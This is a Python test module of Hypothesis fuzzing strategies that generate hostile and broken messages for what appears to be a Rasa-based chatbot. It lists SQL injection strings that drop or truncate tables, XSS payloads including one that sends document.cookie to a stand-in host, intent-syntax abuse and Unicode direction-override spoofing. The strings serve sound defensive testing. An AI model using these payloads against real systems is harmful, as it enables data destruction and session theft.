"""Hypothesis strategies for what members (and attackers) might type, and for broken requests."""

from __future__ import annotations

import json

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st


def fuzz_settings(examples: int) -> settings:
    """Reproducible runs (derandomized, no example database) against slow real servers."""
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large],
    )

SQL = [
    "'; DROP TABLE cases; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM events WHERE ('1'='1",
    "UNION SELECT payload FROM cases --",
    "'; TRUNCATE deliveries CASCADE; --",
    "\\x00'; SELECT pg_sleep(10); --",
    "%' AND 1=0 UNION ALL SELECT NULL,NULL --",
]
HTML = [
    "<script>alert('x')</script>",
    '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
    "<iframe src=javascript:alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "&lt;b&gt;bold&lt;/b&gt; &amp;&#x27;",
    "<!-- --><b>hi</b>",
    "[click me](javascript:alert(1))",
]
RASA_SYNTAX = [
    "/",
    "//",
    "/confirm_send",
    "/restart",
    "/session_start",
    "/nonexistent_intent",
    '/faq{"topic": "x"}',
    '/affirm{"broken": ',
    "/stop{}",
    "/request_human" + "{" * 50,
    "/" + "a" * 300,
]
RTL = [
    "مرحبا، لقد نشر أحد الوالدين صورة لي على فيسبوك",
    "שלום, מישהו פרסם עליי משהו באינסטגרם",
    "\u202eevil.exe\u202c teacher",
    "abc\u200f\u200edef\u2066\u2069",
]
EMOJI = ["😀", "🙈🙉🙊", "👩🏽‍🏫", "🏳️‍🌈", "❤️‍🔥", "🇬🇧", "\U0001f9d1\u200d\U0001f4bb", "🔥" * 40]

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)
control_text = st.text(alphabet=st.characters(whitelist_categories=("Cc", "Cf", "Zl", "Zp", "Co")), min_size=1, max_size=40)
any_unicode = st.text(max_size=300)
long_text = st.builds(lambda unit, n: (unit * n)[:4900], st.text(min_size=1, max_size=30), st.integers(150, 4900))
fragments = st.sampled_from(SQL + HTML + RASA_SYNTAX + RTL + EMOJI)


@st.composite
def mixed(draw: st.DrawFn) -> str:
    """Ordinary words mixed with the hostile pieces above."""
    words = ["my", "head", "teacher", "facebook", "yes", "no", "stop", "help", "tweet", "parent", "skip"]
    parts = draw(st.lists(st.sampled_from(words) | fragments | control_text | st.sampled_from(EMOJI), min_size=1, max_size=8))
    return " ".join(parts)


hostile_messages = st.one_of(
    any_unicode,
    control_text,
    long_text,
    fragments,
    mixed(),
    json_values.map(json.dumps),
    st.just(""),
    st.just(" \n\t "),
)
